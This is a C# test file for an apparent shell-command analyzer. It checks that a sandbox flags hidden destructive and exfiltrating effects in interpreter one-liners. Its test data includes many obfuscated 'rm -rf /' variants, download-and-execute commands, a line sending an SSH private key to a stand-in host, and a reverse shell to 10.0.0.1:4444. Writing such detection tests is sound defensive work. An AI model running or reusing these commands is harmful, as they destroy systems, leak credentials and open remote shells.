using Pharos.Shell.Effects;

namespace Pharos.Shell.Tests.Effects.Languages.Code;

/// <summary>One destruction, said in many ways by code on a command line.</summary>
public sealed class HiddenCodeTests
{
    [Theory]
    [InlineData("python3 -c \"import os; os.system('rm -rf /')\"")]
    [InlineData("python3 -c \"import os as o; o.system('rm -' + 'rf /')\"")]
    [InlineData("python3 -c \"from os import system as s; s('rm -rf ' '/')\"")]
    [InlineData("python3 -c \"__import__('os').system('rm -rf /')\"")]
    [InlineData("python3 -c \"getattr(__import__('o'+'s'), 'sys'+'tem')('rm -rf /')\"")]
    [InlineData("python3 -c \"import importlib; importlib.import_module('os').system('rm -rf /')\"")]
    [InlineData("python3 -c \"x='rm -rf '; y=x+'/'; import os; os.system(y)\"")]
    [InlineData("python3 -c \"import subprocess; subprocess.run(['rm','-rf','/'])\"")]
    [InlineData("python3 -c \"import subprocess as s; s.check_call('rm -rf /', shell=True)\"")]
    [InlineData("python3 -c \"exec('import os; os.system(\\\\'rm -rf /\\\\')')\"")]
    [InlineData("python3 -c \"import base64,os; os.system(base64.b64decode('cm0gLXJmIC8=').decode())\"")]
    [InlineData("python3 -c \"import os; os.system(bytes.fromhex('726d202d7266202f').decode())\"")]
    [InlineData("python3 -c \"import os; os.system('/ fr- mr'[::-1])\"")]
    [InlineData("python3 -c \"import os; os.system(''.join(['rm', ' -rf', ' /']))\"")]
    [InlineData("python3 -c \"import os; os.system(chr(114)+'m -rf /')\"")]
    [InlineData("python3 -c \"import os; os.system('%s -rf %s' % ('rm', '/'))\"")]
    [InlineData("python3 -c \"import os; d='/'; os.system(f'rm -rf {d}')\"")]
    [InlineData("python3 -c \"import os; os.execlp('rm', 'rm', '-rf', '/')\"")]
    [InlineData("python3 -c \"import os; f=os.system; f('rm -rf /')\"")]
    [InlineData("python3 -c \"import os; os.__dict__['system']('rm -rf /')\"")]
    [InlineData("python3 -c \"import pty; pty.spawn(['sh','-c','rm -rf /'])\"")]
    [InlineData("python3 <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF")]
    [InlineData("python3 - <<EOF\nimport shutil\nshutil.rmtree('/')\nEOF")]
    [InlineData("python3 -c \"import shutil; shutil.rmtree('/')\"")]
    [InlineData("python3 -c \"from shutil import rmtree; rmtree(path='/')\"")]
    [InlineData("node -e \"require('child_process').exec('rm -rf /')\"")]
    [InlineData("node -e \"const {execSync: e} = require('child_process'); e('rm -rf /')\"")]
    [InlineData("node -e \"require('child_process').spawn('rm', ['-rf', '/'])\"")]
    [InlineData("node -e \"require('fs').rmSync('/', {recursive: true})\"")]
    [InlineData("node -e \"process.mainModule.require('child_process').execSync('rm -rf /')\"")]
    [InlineData("node -e \"global['require']('child_process')['exec'+'Sync']('rm -rf /')\"")]
    [InlineData("node -e \"eval(Buffer.from('cmVxdWlyZSgnZnMnKS5ybVN5bmMoJy8nLHtyZWN1cnNpdmU6dHJ1ZX0p','base64').toString())\"")]
    [InlineData("node -e \"eval(atob('cmVxdWlyZSgnZnMnKS5ybVN5bmMoJy8nLHtyZWN1cnNpdmU6dHJ1ZX0p'))\"")]
    [InlineData("node -e \"require('child_process').exec(String.fromCharCode(114,109)+' -rf /')\"")]
    [InlineData("node -e 'require(\"child_process\").exec(`rm -rf ${\"/\"}`)'")]
    [InlineData("perl -e 'system(\"rm -rf /\")'")]
    [InlineData("perl -e 'system \"rm\", \"-rf\", \"/\"'")]
    [InlineData("perl -e '`rm -rf /`'")]
    [InlineData("perl -e 'qx{rm -rf /}'")]
    [InlineData("perl -e 'exec qw(rm -rf /)'")]
    [InlineData("perl -e '$x = \"rm\"; system \"$x -rf /\" if 1'")]
    [InlineData("perl -e 'open(F, \"rm -rf / |\")'")]
    [InlineData("perl -e 'open my $f, \"|-\", \"rm -rf /\"'")]
    [InlineData("perl -MMIME::Base64 -e 'eval decode_base64(\"c3lzdGVtICJybSAtcmYgLyI=\")'")]
    [InlineData("perl -e 'system(pack(\"H*\", \"726d202d7266202f\"))'")]
    [InlineData("perl -e 'use File::Path; rmtree(\"/\")'")]
    [InlineData("perl -pe 's/x/system(\"rm -rf \\/\")/e'")]
    [InlineData("perl -e 'print \"@{[system(q(rm -rf /))]}\"'")]
    [InlineData("ruby -e 'system(\"rm -rf /\")'")]
    [InlineData("ruby -e 'system \"rm\", \"-rf\", \"/\"'")]
    [InlineData("ruby -e '`rm -rf /`'")]
    [InlineData("ruby -e '%x(rm -rf /)'")]
    [InlineData("ruby -e 'puts \"#{system(\"rm -rf /\")}\"'")]
    [InlineData("ruby -e 'require \"fileutils\"; FileUtils.rm_rf \"/\"'")]
    [InlineData("ruby -rfileutils -e 'FileUtils.rm_rf(\"/\")'")]
    [InlineData("ruby -e 'IO.popen(\"rm -rf /\")'")]
    [InlineData("ruby -e 'open(\"|rm -rf /\")'")]
    [InlineData("ruby -e 'eval(\"system(%q(rm -rf /))\")'")]
    [InlineData("php -r 'system(\"rm -rf /\");'")]
    [InlineData("php -r '$f = \"sys\".\"tem\"; $f(\"rm -rf /\");'")]
    [InlineData("php -r 'eval(base64_decode(\"c3lzdGVtKCJybSAtcmYgLyIpOw==\"));'")]
    [InlineData("php -r 'echo `rm -rf /`;'")]
    [InlineData("php -r '$d=\"/\"; exec(\"rm -rf $d\");'")]
    [InlineData("lua -e 'os.execute(\"rm -rf /\")'")]
    [InlineData("lua -e 'io.popen \"rm -rf /\"'")]
    [InlineData("lua -e 'local o = require \"os\"; o.execute(\"rm\" .. \" -rf /\")'")]
    [InlineData("lua -e 'load(\"os.execute([[rm -rf /]])\")()'")]
    [InlineData("Rscript -e 'system(\"rm -rf /\")'")]
    public void A_destruction_that_code_hides_is_found(string script) =>
        Sandbox.Analyze(script).Effects.ShouldContain(static effect => effect.Kind == EffectKind.Delete && effect.Target == "/" && effect.IsRecursive);

    [Theory]
    [InlineData("python3 -c \"import os,sys; os.system(sys.argv[1])\"")]
    [InlineData("python3 -c \"import os; os.system('ls' if len(os.getcwd()) > 3 else 'rm -rf /')\"")]
    [InlineData("python3 -c \"import os; a,b='ls','rm -rf /'; os.system(b)\"")]
    [InlineData("python3 -c \"import os\nx='ls'\nfor i in range(2):\n  os.system(x)\n  x='rm -rf /'\"")]
    [InlineData("python3 -c \"list(map(eval, input()))\"")]
    [InlineData("python3 -c \"().__class__.__bases__[0].__subclasses__()[104].load_module('os')\"")]
    [InlineData("python3 -c \"import zzz; zzz.go()\"")]
    [InlineData("python3 -c \"import threading,os; threading.Thread(target=os.system, args=('rm -rf /',)).start()\"")]
    [InlineData("node -e \"[].constructor.constructor('return process')()\"")]
    [InlineData("node -e \"process.binding('spawn_sync')\"")]
    [InlineData("node -e \"require('zzz')()\"")]
    [InlineData("perl -e 'zzz(1)'")]
    [InlineData("perl -e 'eval <STDIN>'")]
    [InlineData("perl -e 'while(<>){ eval $_ }'")]
    [InlineData("ruby -e 'Kernel.send(gets, gets)'")]
    [InlineData("ruby -e 'zzz 1'")]
    [InlineData("php -r '$_GET[0]($_GET[1]);'")]
    [InlineData("php -r 'call_user_func($argv[1]);'")]
    [InlineData("lua -e 'zzz(1)'")]
    public void Code_that_cannot_be_followed_is_unknown(string script) =>
        Sandbox.Analyze(script).Effects.ShouldContain(static effect => effect.Kind == EffectKind.Execute && effect.Certainty == Certainty.Unknown);

    [Theory]
    [InlineData("python3 -c \"import urllib.request as u; exec(u.urlopen('http://x/y').read())\"")]
    [InlineData("python3 -c \"import requests; exec(requests.get('http://x/y').text)\"")]
    [InlineData("python3 -c \"import requests,os; c = requests.get('http://x/y').text.strip(); os.system(c)\"")]
    [InlineData("ruby -e 'require \"open-uri\"; eval(URI.open(\"http://x/y\").read)'")]
    [InlineData("php -r 'eval(file_get_contents(\"http://x/y\"));'")]
    [InlineData("perl -MLWP::Simple -e 'eval get(\"http://x/y\")'")]
    public void Code_that_runs_what_it_fetched_is_a_flow(string script) =>
        Sandbox.Analyze(script).Flows.ShouldContain(static flow => flow.Kind == FlowKind.DownloadToInterpreter && flow.From == "http://x/y");

    [Theory]
    [InlineData("python3 -c \"import requests; requests.post('http://x', data=open('/home/dev/.ssh/id_rsa').read())\"", FlowKind.SecretToNetwork)]
    [InlineData("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"sh\")' < /etc/shadow", null)]
    public void Code_that_sends_a_secret_is_a_flow(string script, FlowKind? flow)
    {
        var analysis = Sandbox.Analyze(script);
        if (flow is { } kind)
        {
            analysis.Flows.ShouldContain(found => found.Kind == kind);
        }

        analysis.Effects.ShouldContain(static effect => effect.Kind == EffectKind.Upload || effect.Kind == EffectKind.Network);
    }

    [Theory]
    [InlineData("python3 -c \"import socket; s=socket.socket(); s.connect(('10.0.0.1',4444))\"", "10.0.0.1:4444")]
    [InlineData("php -r '$s=fsockopen(\"10.0.0.1\",4444);'", "10.0.0.1")]
    [InlineData("node -e \"require('net').connect(4444,'10.0.0.1')\"", "10.0.0.1")]
    [InlineData("ruby -rsocket -e 'TCPSocket.new(\"10.0.0.1\",4444)'", "10.0.0.1")]
    public void A_connection_names_its_host(string script, string host) =>
        Sandbox.Analyze(script).Effects.ShouldContain(effect => effect.Kind == EffectKind.Network && effect.Target == host);

    [Fact]
    public void A_file_beside_takes_the_name_of_a_module() =>
        new ShellAnalyzer().Analyze("python3 -c 'import struct'", Reads.Context with { Files = new OneFile("/workspace/struct.py") }).Effects
            .ShouldContain(static effect => effect.Kind == EffectKind.Execute && effect.Target == "/workspace/struct.py");

    private sealed class OneFile(string path) : IFileView
    {
        public FileLook Look(string absolutePath) => new(absolutePath == path ? FileKind.File : FileKind.Absent, absolutePath);

        public string? ReadText(string absolutePath, int maximumBytes) => null;
    }
}
